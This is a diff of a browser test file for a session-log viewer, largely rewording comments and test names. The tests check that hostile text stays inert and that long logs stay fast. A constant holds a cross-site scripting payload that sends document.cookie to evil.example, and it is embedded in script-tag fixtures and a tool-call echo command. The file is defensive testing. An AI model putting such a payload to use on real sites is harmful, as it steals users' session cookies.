@@ -9,14 +9,14 @@ import { addSession, id, prompt, said } from "../kit/clients/sessions-command.ts
 import { cards, entry, press, shownEvents, startSession } from "../kit/browser/cards.ts";
 import { openDesk, type Desk } from "../kit/browser/desk.ts";
 
-/** Hostile logs and long logs: nothing in them runs, and the page stays quick. */
+/** Hostile logs and long logs: no text in them may run, and the page must stay fast. */
 
 const [HOSTILE, LONG, DEEP, READ] = [id(1), id(2), id(3), id(4)];
 const EVENTS = 10_000;
 /** Twelve pages, four times as many as the page keeps. */
 const READ_EVENTS = 2_400;
 
-/** Sets a mark, or sends a request, if it runs. */
+/** Code that sets a mark and sends a request if executed. */
 const RUN = "window.harmed=true;fetch('https://evil.example/?'+document.cookie)";
 const PAYLOADS = [
   `<script>${RUN}</script>`,
@@ -48,7 +48,7 @@ const ofTool = (name: string, input: object, output: string): SessionEvent[] => 
   message("user", { type: "tool_result", tool_use_id: `toolu_${name}`, content: output }),
 ];
 
-/** An agent that starts an agent, from event 2 on; each says `steps` texts. */
+/** Returns events of an agent in an agent, from event 2 on; each agent reports `steps` texts. */
 const agentsWithin = (steps: number): SessionEvent[] => {
   const sends = (call: string, parent?: string) => {
     const input = { description: call, prompt: "Look." };
@@ -71,7 +71,7 @@ beforeAll(async () => {
   desk = await openDesk({
     async seeded(node) {
       const bad = [ALL, NESTED, QUOTED, LINE, `\`\`\`\n${LINE}\n\`\`\``, `| ${"a | ".repeat(3_000)}`].map(said);
-      // Names that every object of JavaScript has.
+      // Names of properties that every JavaScript object has.
       const todos = ["constructor", "__proto__"].map((status) => ({ content: status, status }));
       const tools = [
         ...ofTool("TodoWrite", { todos }, "toString"),
@@ -88,7 +88,7 @@ beforeAll(async () => {
 afterEach(async (test) => desk.clear(test));
 afterAll(async () => desk.close());
 
-/** Effects of hostile text; [] when it stayed text. */
+/** Returns effects of hostile text; [] if all text stayed text. */
 async function harm(page: Page): Promise<string[]> {
   return page.evaluate<string[]>(`[
     ...(window.harmed === undefined ? [] : ["something ran"]),
@@ -100,7 +100,7 @@ async function harm(page: Page): Promise<string[]> {
   ]`);
 }
 
-it("the test notices what hostile text could do", async () => {
+it("the test notices the effects of hostile text", async () => {
   const { page } = await desk.open();
   await page.getByRole("heading", { level: 1 }).waitFor();
   expect(await harm(page)).toEqual([]);
@@ -118,7 +118,7 @@ async function unfoldAll(page: Page): Promise<void> {
 }
 
 describe("hostile text", () => {
-  it("in a log stays text: nothing runs, nothing is fetched, and the page stays quick", async () => {
+  it("hostile text in a log stays text: nothing runs, nothing is fetched, and the page stays fast", async () => {
     const window = await desk.open({ hash: `#/sessions/${HOSTILE}?event=1` });
     const { page } = window;
     await page.getByText("level 0").first().waitFor();
@@ -137,7 +137,7 @@ describe("hostile text", () => {
       .toBe(0);
     await window.picture("hostile", false);
     expect(await harm(page)).toEqual([]);
-    // Checks all links: none is harmful.
+    // Includes all links: none may be harmful.
     await page.getByText("click me").first().click();
     expect(page.url()).toContain("/console/#/");
     await page.getByRole("link", { name: "Approvals", exact: true }).click();
@@ -147,7 +147,7 @@ describe("hostile text", () => {
     expect(await harm(page)).toEqual([]);
   });
 
-  it("in requests, messages and live text stays text, and hidden characters are shown", async () => {
+  it("hostile text in requests, messages and live text stays text, and hidden characters are shown", async () => {
     const { page } = await desk.open();
     const cwd = desk.world.folder();
     const question = {
@@ -160,7 +160,7 @@ describe("hostile text", () => {
       ],
     };
     const tools = [
-      // Claude Code itself refuses commands with control characters.
+      // Plain commands, because Claude Code itself refuses commands with control characters.
       { name: "Bash", input: { command: `echo ${PAYLOADS[0]!} ${PAYLOADS[1]!}`, description: ALL } },
       { name: "Write", input: { file_path: join(cwd, PAYLOADS[9]!), content: ALL } },
       { name: "AskUserQuestion", input: { questions: [question] } },
@@ -187,7 +187,7 @@ describe("hostile text", () => {
 });
 
 describe("a long log", () => {
-  /** The most elements that are drawn, however far the user scrolls. */
+  /** Maximum number of elements, however far the user scrolls. */
   const MAX_NODES = 8_000;
   const nodes = async (page: Page) => page.evaluate<number>('document.querySelectorAll("*").length');
   const first = async (page: Page) => (await shownEvents(page))[0] ?? 0;
@@ -195,14 +195,14 @@ describe("a long log", () => {
   const where = async (page: Page, eventId: number) =>
     page.evaluate<number>(`document.querySelector('[data-event="${String(eventId)}"]').getBoundingClientRect().top`);
 
-  it("of 10,000 events opens at its end, and jumps to its start", async () => {
+  it("a log of 10,000 events opens at its end, and jumps to its start", async () => {
     const { page } = await desk.open();
     await page.goto(`${desk.http.origin}/console/#/sessions/${LONG}`);
-    // Far more than it takes: a slow machine is no failure.
+    // Far above the usual time, so that a slow machine causes no failure.
     await entry(page, `Step ${String(EVENTS)}:`).waitFor({ timeout: 20_000 });
     expect(await nodes(page)).toBeLessThan(MAX_NODES);
     expect(await where(page, EVENTS)).toBeLessThan(900);
-    // The ways to the ends are in view once the reader leaves the end.
+    // Buttons to both ends appear once the reader leaves the end.
     await page.mouse.wheel(0, -300);
     await page.getByRole("button", { name: "To the start" }).click();
     await expect.poll(async () => first(page)).toBe(1);
@@ -210,7 +210,7 @@ describe("a long log", () => {
     expect(await nodes(page)).toBeLessThan(MAX_NODES);
   });
 
-  it("is read from its end to its start and back, and the page does not grow with it", async () => {
+  it("a log is read from its end to its start and back without growing the page", async () => {
     const { page } = await desk.open({ hash: `#/sessions/${READ}` });
     await entry(page, `Step ${String(READ_EVENTS)}:`).waitFor();
     let most = 0;
@@ -220,7 +220,7 @@ describe("a long log", () => {
       most = Math.max(most, await nodes(page));
       await page.evaluate("scrollTo(0, 0)");
       await expect.poll(async () => first(page)).toBeLessThan(at);
-      // The text in view stays there when more is loaded above it.
+      // Text in view stays in place when older events are loaded.
       expect(await where(page, at)).toBeGreaterThan(-200);
       expect(await where(page, at)).toBeLessThan(900);
     }
@@ -239,16 +239,16 @@ describe("a long log", () => {
     expect(most).toBeLessThan(MAX_NODES);
   });
 
-  it("is opened at an event that the address names", async () => {
+  it("a log opens at an event that the address names", async () => {
     const { page } = await desk.open({ hash: `#/sessions/${LONG}?event=5000` });
     await entry(page, "Step 5000:").waitFor();
     await expect.poll(async () => where(page, 5_000)).toBeGreaterThan(0);
     expect(await where(page, 5_000)).toBeLessThan(900);
   });
 
-  it("opens around an event of a subagent's subagent to show it, and around the next one that is asked for", async () => {
+  it("a log opens around an event of a nested subagent, and moves to the next requested event", async () => {
     const { page } = await desk.open({ hash: `#/sessions/${DEEP}?event=100` });
-    // 1 prompt, 1 agent, 60 of its texts, 1 agent: the first text of the inner one is event 64.
+    // Events: 1 prompt, 1 agent, 60 of its texts, 1 agent. The first text of the inner agent is event 64.
     await page.getByText("Inner 36.", { exact: true }).waitFor();
     await expect.poll(async () => where(page, 100)).toBeGreaterThan(0);
     expect(await where(page, 100)).toBeLessThan(900);
